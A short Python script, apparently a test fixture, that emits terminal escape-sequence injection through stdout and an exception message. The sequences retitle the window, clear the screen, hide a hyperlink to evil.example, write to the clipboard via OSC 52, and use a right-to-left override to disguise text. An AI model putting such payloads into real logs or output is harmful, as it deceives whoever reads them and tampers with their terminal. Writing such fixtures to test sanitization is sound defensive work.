"""Take over the terminal of whoever reads the log, and leave in such words."""

import sys

sys.stdout.write("\x1b]0;owned\x07\x1b[2J\x1b[31mred\x1b]8;;https://evil.example\x07link\x1b]8;;\x07\n")
raise ValueError("\x1b[2J\x1b]52;c;ZXZpbA==\x07 it was fine \u202e esrever")
